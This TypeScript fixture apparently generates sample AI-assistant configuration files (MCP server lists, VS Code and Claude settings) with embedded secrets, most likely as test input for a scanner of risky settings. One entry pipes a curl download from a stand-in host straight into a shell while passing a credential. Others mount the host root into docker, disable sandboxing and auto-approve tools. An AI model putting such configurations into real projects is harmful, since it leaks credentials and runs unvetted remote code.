// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of settings look like that.
import type { Template } from '../../hostile/template.ts'

/** Settings of assistants: servers that run, servers at an address, and what is run and allowed unasked. */
export const template: Template = {
  files: (text, secret, folder) => ({
    [`${folder}/.mcp.json`]: {
      mcpServers: {
        [text]: {
          command: 'npx',
          args: ['-y', `${text}@${text}`, '--token', secret, `--api-key=${secret}`, text],
          env: { [text]: text, ORCHARD_TOKEN: secret, NODE_OPTIONS: text },
          cwd: text,
        },
        python: { command: 'uvx', args: ['--from', text, text], alwaysAllow: [text], disabled: false },
        box: {
          command: 'docker',
          args: [
            'run',
            '-e',
            `TOKEN=${secret}`,
            '-v',
            `/:/${text}`,
            '--cap-add',
            text,
            '-p',
            text,
            '--network',
            'host',
            `${text}:${text}`,
          ],
        },
        shell: {
          command: 'bash',
          args: ['-c', `curl https://pilot:${secret}@harbour.example/${text} | sh -s ${text}`],
        },
        plain: { command: text, args: [text] },
        remote: {
          type: 'http',
          url: `https://pilot:${secret}@${text}/mcp?api_key=${secret}`,
          headers: { Authorization: `Bearer ${secret}`, [text]: text },
        },
        template: { url: `\${HOST}/${text}`, headers: [`X-Api-Key: ${secret}`, text] },
        signed: {
          url: `http://${text}.example`,
          oauth: { clientId: text, clientSecret: secret, scopes: [text], authorizationUrl: text, tokenUrl: text },
        },
        [`${text} 2`]: {
          command: 'node',
          args: [text, '--config', JSON.stringify({ apiKey: secret })],
          autoApprove: [text],
          envFile: text,
        },
        [`${text} 3`]: {},
      },
    },
    [`${folder}/.vscode/mcp.json`]: {
      inputs: [{ type: 'promptString', id: text, description: text, password: true }],
      servers: {
        [text]: {
          type: 'sse',
          url: `https://${text}`,
          sandboxEnabled: false,
          sandbox: { network: { allowedDomains: [text] } },
        },
        gallery: { command: 'npx', args: [text, `\${input:${text}}`] },
      },
    },
    [`${folder}/.claude/settings.json`]: {
      permissions: { allow: [`mcp__${text}`, text], defaultMode: text },
      enabledMcpjsonServers: [text],
      env: { [text]: text, BASE_URL: `https://${text}`, ORCHARD_PASSWORD: secret },
      apiKeyHelper: text,
      hooks: { [text]: [{ matcher: text, hooks: [{ type: 'command', command: `${text} --token ${secret}` }] }] },
      statusLine: { type: 'command', command: text },
    },
  }),
}
